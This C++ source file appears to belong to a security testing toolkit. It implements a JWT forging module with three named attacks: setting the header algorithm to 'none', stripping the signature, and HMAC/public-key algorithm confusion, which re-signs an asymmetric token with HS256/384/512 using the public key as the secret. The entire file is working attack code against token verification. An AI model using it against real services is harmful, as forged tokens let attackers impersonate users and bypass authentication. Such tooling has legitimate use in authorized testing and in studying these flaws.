#include "core/token/jwt_forge.h"

#include <nlohmann/json.hpp>

#include "core/base/base64.h"
#include "core/crypto/hmac.h"

namespace knox::token {
namespace {

using OrderedJson = nlohmann::ordered_json;

struct Parts {
  std::string_view header, payload;
};

Result<Parts> SplitToken(std::string_view token) {
  const size_t first = token.find('.');
  const size_t last = token.rfind('.');
  if (first == std::string_view::npos || first == last || token.size() > 65536) {
    return Fail(ErrorCode::kMalformed, "jwt forge: not a JWS compact token (three segments)");
  }
  return Parts{token.substr(0, first), token.substr(first + 1, last - first - 1)};
}

Result<OrderedJson> Header(std::string_view segment) {
  auto bytes = Base64DecodeUrlPadFixed(segment, /*drop_non_ascii=*/false);
  if (!bytes) return Fail(ErrorCode::kMalformed, "jwt forge: header is not base64url");
  OrderedJson header = OrderedJson::parse(*bytes, nullptr, /*allow_exceptions=*/false);
  if (header.is_discarded() || !header.is_object()) {
    return Fail(ErrorCode::kMalformed, "jwt forge: header is not a JSON object");
  }
  return header;
}

std::string Encode(const OrderedJson& header) {
  return Base64Encode(header.dump(-1, ' ', false, OrderedJson::error_handler_t::replace),
                      Base64Alphabet::kUrl, Base64Padding::kUnpadded);
}

}  // namespace

Result<JwtAttack> ParseJwtAttack(std::string_view name) {
  if (name == "none") return JwtAttack::kAlgNone;
  if (name == "hs-with-public-key") return JwtAttack::kHsWithPublicKey;
  if (name == "strip-signature") return JwtAttack::kStripSignature;
  return Fail(ErrorCode::kInvalidArgument, "unknown attack '" + std::string(name) +
                                               "' (none, hs-with-public-key, strip-signature)");
}

Result<std::string> ForgeJwt(std::string_view token, JwtAttack attack, std::string_view key_bytes) {
  auto parts = SplitToken(token);
  if (!parts) return std::unexpected(parts.error());
  auto header = Header(parts->header);
  if (!header) return std::unexpected(header.error());
  switch (attack) {
    case JwtAttack::kStripSignature:
      return std::string(parts->header) + "." + std::string(parts->payload) + ".";
    case JwtAttack::kAlgNone:
      (*header)["alg"] = "none";
      return Encode(*header) + "." + std::string(parts->payload) + ".";
    case JwtAttack::kHsWithPublicKey:
      break;
  }
  if (key_bytes.empty()) {
    return Fail(ErrorCode::kInvalidArgument,
                "jwt forge: hs-with-public-key needs the public key file (--secret-file)");
  }
  const auto alg = header->find("alg");
  const std::string name = alg != header->end() && alg->is_string() ? alg->get<std::string>() : "";
  crypto::Digest digest = crypto::Digest::kSha256;
  std::string hs = "HS256";
  if (name.ends_with("384")) {
    digest = crypto::Digest::kSha384;
    hs = "HS384";
  } else if (name.ends_with("512")) {
    digest = crypto::Digest::kSha512;
    hs = "HS512";
  }
  if (name.empty() || name.starts_with("HS") || name == "none") {
    return Fail(
        ErrorCode::kInvalidArgument,
        "jwt forge: hs-with-public-key rewrites an RS/PS/ES/EdDSA token, not '" + name + "'");
  }
  (*header)["alg"] = hs;
  std::string out = Encode(*header) + "." + std::string(parts->payload);
  const crypto::HmacKey key(digest, key_bytes);
  unsigned char mac[crypto::kMaxDigestSize];
  key.Sign(out, mac);
  out.push_back('.');
  Base64EncodeAppend(std::string_view(reinterpret_cast<const char*>(mac), key.size()),
                     Base64Alphabet::kUrl, Base64Padding::kUnpadded, out);
  return out;
}

}  // namespace knox::token
